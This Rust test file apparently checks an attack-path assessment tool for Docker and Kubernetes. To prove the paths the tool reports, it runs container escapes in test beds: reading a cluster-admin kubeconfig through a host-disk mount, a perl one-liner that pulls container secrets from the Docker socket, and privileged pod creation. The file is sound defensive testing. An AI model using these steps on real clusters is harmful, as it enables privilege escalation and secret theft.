//! The bridge: one machine with a Docker engine and a node of a cluster. A container of the one becomes administrator of
//! the other, and whoever may start pods there reads the secrets of the engine's containers. Each way that is told as
//! proven is walked; the first fix that is proposed takes it away; two machines have none.

mod beds;
mod found;
#[path = "../threats/machine.rs"]
mod machine;
mod pods;

use beds::{Beds, IMAGE};
use pods::{account, may, pod};
use seaworthy_bed::{Kubernetes, Version};
use serde_json::{Value, json};

const ADMIN: &str = "every right in the cluster";
const HOST: &str = "root on the host";
const SECRETS: &str = "the data and secrets of vault";
const NETWORK: &str = "anybody on the host's networks";

/// A container of an engine that has the machine's disk, to read.
fn disk() -> Value {
    json!({ "User": "0:0", "HostConfig": { "Binds": ["/:/host:ro"] } })
}

/// What a container with the machine's disk finds in the administrator's kubeconfig.
fn stolen(beds: &Beds) -> String {
    beds.exec("shop", &format!("cat /host{}", beds.cluster.kubeconfig().display()))
}

/// Prints what the engine says of the container `vault`: with what every Debian has, from the machine's disk at `root`.
fn asks_engine(root: &str, beds: &Beds) -> String {
    let script = format!(
        r#"$s = IO::Socket::UNIX->new(Peer => "{root}{}"); print $s "GET /containers/vault/json HTTP/1.0\r\n\r\n"; print while <$s>"#,
        beds.daemon.socket().display()
    );
    let triple = format!("{}-linux-gnu", std::env::consts::ARCH);
    let loader = match std::env::consts::ARCH {
        "x86_64" => "ld-linux-x86-64.so.2",
        _ => "ld-linux-aarch64.so.1",
    };
    let libraries = ["lib", "usr/lib"].map(|at| format!("{root}/{at}/{triple}")).join(":");
    let modules = format!("{root}/usr/lib/{triple}/perl-base");
    format!(
        "{root}/lib/{triple}/{loader} --library-path {libraries} {root}/usr/bin/perl -I{modules} -MIO::Socket::UNIX -e '{script}'"
    )
}

#[test]
fn a_published_container_is_administrator_and_whoever_starts_pods_reads_the_engines_secrets() {
    let Some(beds) = Beds::start(Version::V20, Kubernetes::V135) else { return };
    let node = format!("root on {}", beds.cluster.node_name());
    beds.run("vault", None, &json!({ "Env": ["DB_PASSWORD=hunter2hunter2"] }));
    beds.run("shop", Some("8080"), &disk());
    beds.cluster.create_namespace("build");
    for name in ["maker", "idle"] {
        beds.cluster.apply(&[account("build", name)]);
        beds.cluster.apply(&[pod("build", name, name, &json!({}))]);
        beds.cluster.wait_for_pod_running("build", name);
    }
    beds.cluster.apply(&may("build", "maker", &["pods"], &["create", "get"]));

    // In one sitting: the engine and the API by name, and this machine, since it is a node of that cluster.
    let before = beds.assess();
    let there = before.only("code in shop", ADMIN, "proven");
    let wanted = ["started-as-root", "host-disk-node", "host-disk-is-nodes", "kubeconfig-theft"];
    assert_eq!(there[0].steps, wanted, "{}", before.show());
    // Facts of both: the mount of the container, the machine's id on either side, the control plane on the node.
    let facts = there[0].facts();
    for fact in [
        "shop root_user",
        "shop sensitive_mounts",
        "machine",
        &format!("{} control_plane_by", beds.cluster.node_name()),
    ] {
        assert!(facts.iter().any(|known| known.ends_with(fact)), "{fact} is not in {facts:?}");
    }
    assert_eq!(facts.iter().filter(|known| known.ends_with(" machine")).count(), 2, "{facts:?}");
    // By the engine's socket, which lies on that disk, too.
    let by_socket = ["started-as-root", "mounted-socket", "engine-is-root", "host-is-node", "control-plane-keys"];
    assert!(there.iter().any(|path| path.steps == by_socket), "{}", before.show());
    // The port is published to everybody; that the service has a flaw nobody read.
    let from_network = before.only(NETWORK, ADMIN, "assumed");
    assert_eq!(from_network[0].steps[..2], ["published-port-local-network", "service-flaw"]);
    assert_eq!(from_network[0].steps[2..], wanted);

    // Walked: the kubeconfig that lies there is every right in the cluster, and the socket answers.
    let kubeconfig = stolen(&beds);
    assert!(kubeconfig.contains("client-key-data"), "{kubeconfig}");
    assert!(beds.may_everything(&kubeconfig));
    let answer = beds.exec("shop", &asks_engine("/host", &beds));
    assert!(answer.contains("hunter2hunter2"), "{answer}");

    // And back: whoever may create pods is root on the node, which is the engine's machine.
    let maker = "code in build/maker/app";
    let back =
        ["pod-own-token", "may-create-pods", "namespace-node-root", "node-root-at-host", "node-reads-containers"];
    let there = before.only(maker, SECRETS, "proven");
    assert_eq!(there[0].steps, back, "{}", before.show());
    assert!(there[0].facts().iter().any(|known| known == "vault env_secrets"), "{:?}", there[0].facts());
    assert!(!before.only(maker, HOST, "proven").is_empty() && !before.only(maker, &node, "proven").is_empty());
    let thief = beds.inside("build", "maker");
    let (status, answer) = thief.post("/api/v1/namespaces/build/pods", &pods::rooted("build", "taken", "idle"));
    assert_eq!(status, 201, "{answer}");
    beds.cluster.wait_for_pod_running("build", "taken");
    let out = beds.cluster.exec("build", "taken", "app", &["sh", "-c", &asks_engine("/node", &beds)]);
    assert!(out.stdout.contains("hunter2hunter2"), "{out:?}");
    assert_eq!(beds.cluster.admin().delete("/api/v1/namespaces/build/pods/taken").0, 200);
    // Another account of the same namespace has no such right, and no such way.
    assert!(before.count("code in build/idle/app", SECRETS, "proven") == 0, "{}", before.show());
    assert_eq!(
        beds.inside("build", "idle").post("/api/v1/namespaces/build/pods", &pods::rooted("build", "x", "idle")).0,
        403
    );

    // Each part read by itself and joined is the same; the record, the page and the picture tell it.
    let parts = beds.parts(None);
    let joined = beds.joined(&parts);
    assert_eq!(
        joined.fingerprints("code in shop", ADMIN),
        before.fingerprints("code in shop", ADMIN),
        "{}",
        joined.show()
    );
    for (format, words) in [
        ("text", "root on the host"),
        ("markdown", "code in shop to every right in the cluster"),
        ("html", "same machine"),
        ("svg", "same-machine"),
    ] {
        let out = beds.offline(&["assess", "-f", format, "--from", "whole.json"]).output().expect("assess");
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(text.contains(words), "{format}: `{words}` is not in it");
        assert!(!text.contains("hunter2"), "{format}");
    }

    // The same engine on another machine is nobody's node.
    let apart = beds.joined(&beds.parts(Some("0123456789abcdef0123456789abcdef\n")));
    assert!(apart.all("code in shop", ADMIN).is_empty(), "{}", apart.show());
    assert!(apart.all(maker, SECRETS).is_empty() && apart.all(maker, HOST).is_empty(), "{}", apart.show());
    // What is of one platform alone is still told.
    assert!(!apart.only("code in shop", HOST, "proven").is_empty());
    assert!(!apart.only(maker, ADMIN, "proven").is_empty(), "{}", apart.show());

    // The first fix cuts it; done by hand it is gone, and the kubeconfig cannot be read any more.
    assert_eq!(before.first(), ["docker/container/non-root-user"], "{}", before.show());
    let cut = before.cut_first();
    for (from, to) in [("code in shop", ADMIN), (NETWORK, ADMIN), ("code in shop", &*node), (NETWORK, &*node)] {
        let fingerprints = before.fingerprints(from, to);
        assert!(!fingerprints.is_empty() && fingerprints.is_subset(&cut), "{from} to {to}: {}", before.show());
    }
    beds.run("shop", Some("8080"), &json!({ "HostConfig": { "Binds": ["/:/host:ro"] } }));
    assert!(!stolen(&beds).contains("client-key-data"));
    let after = beds.assess();
    for from in ["code in shop", NETWORK] {
        for to in [ADMIN, HOST, &node, SECRETS] {
            let left: Vec<_> = after.all(from, to).into_iter().filter(|path| path.certainty != "possible").collect();
            assert!(left.is_empty(), "{from} to {to}: {}", after.show());
        }
    }
    assert!(cut.is_disjoint(&after.every_fingerprint()), "{}", after.show());

    // Root without a mount has no such way either.
    beds.run("shop", Some("8080"), &json!({ "User": "0:0" }));
    let bare = beds.assess();
    for to in [ADMIN, HOST, &node] {
        let known: Vec<_> =
            bare.all("code in shop", to).into_iter().filter(|path| path.certainty != "possible").collect();
        assert!(known.is_empty(), "{}", bare.show());
    }
}

#[test]
fn a_pod_with_a_runtimes_socket_is_root_on_the_machine() {
    let Some(beds) = Beds::start(Version::V29, Kubernetes::V135) else { return };
    let node = format!("root on {}", beds.cluster.node_name());
    beds.run("vault", None, &json!({ "Env": ["DB_PASSWORD=hunter2hunter2"] }));
    let (docker, own) = (beds.daemon.socket(), beds.cluster.dir().join("run/containerd/containerd.sock"));
    // Who a container is without `runAsUser` its image says, which no API server tells.
    for (name, socket, security, limit) in [
        ("docker", &docker, json!({ "runAsUser": 0 }), json!({ "memory": "64Mi" })),
        ("containerd", &own, json!({ "runAsUser": 0 }), json!({})),
        ("unsaid", &docker, json!({}), json!({})),
        ("weak", &docker, json!({ "runAsUser": 1000, "runAsGroup": 1000 }), json!({})),
    ] {
        let more = json!({
            "automountServiceAccountToken": false,
            "volumes": [{ "name": "socket", "hostPath": { "path": socket, "type": "Socket" } }],
            "containers": [{ "name": "app", "image": IMAGE, "imagePullPolicy": "Never", "command": ["sleep", "36000"],
                "securityContext": security, "resources": { "limits": limit }, "volumeMounts": [{ "name": "socket", "mountPath": "/engine.sock" }] }],
        });
        // Equal pods would be told as one.
        beds.cluster.create_namespace(name);
        beds.cluster.apply(&[account(name, "tool"), pod(name, "tool", "tool", &more)]);
        beds.cluster.wait_for_pod_running(name, "tool");
    }

    let told = beds.assess();
    for name in ["docker", "containerd"] {
        let from = format!("code in {name}/tool/app");
        let way = told.only(&from, &node, "proven");
        assert_eq!(way[0].steps, ["pod-runtime-socket"], "{}", told.show());
        assert!(way[0].facts().iter().any(|fact| fact.ends_with("runtime_sockets")), "{:?}", way[0].facts());
        let on = told.only(&from, SECRETS, "proven");
        assert_eq!(on[0].steps, ["pod-runtime-socket", "node-root-at-host", "node-reads-containers"]);
        let admin = told.only(&from, ADMIN, "proven");
        assert_eq!(admin[0].steps, ["pod-runtime-socket", "control-plane-keys"]);
    }
    for (name, most) in [("unsaid", 1), ("weak", 0)] {
        let ways = told.all(&format!("code in {name}/tool/app"), &node);
        let by_socket = ways.iter().filter(|way| way.steps == ["pod-runtime-socket"]);
        assert!(by_socket.clone().all(|way| way.certainty == "possible"), "{name}: {}", told.show());
        assert_eq!(by_socket.count(), most, "{name}: {}", told.show());
    }
    let first = told.first();
    assert!(first.iter().any(|id| id.contains("no-runtime-socket") || id.contains("not-equal-to-root")), "{first:?}");
    let cut = told.cut_first();
    assert!(!cut.is_disjoint(&told.fingerprints("code in docker/tool/app", &node)), "{}", told.show());

    // The socket that the pod has is the engine's: asked through it, it tells the secret.
    let answer = beds.through_pod("docker", "tool", "/engine.sock", "/containers/vault/json");
    assert!(answer.contains("hunter2hunter2"), "{answer}");

    // The machine seen from elsewhere, by its disk: the node and what runs on it are the same.
    let there = beds.node_under_root();
    assert_eq!(there["name"], beds.cluster.node_name());
    let kubelet = found::component(&there, "kubernetes.kubelet");
    assert_eq!(kubelet["facts"]["container_runtime_endpoint"][0], format!("unix://{}", own.display()));
    let machine = &found::component(&there, "kubernetes.node")["facts"]["machine"][0];
    assert_eq!(machine, &found::component(&beds.node_here(), "kubernetes.node")["facts"]["machine"][0]);
}
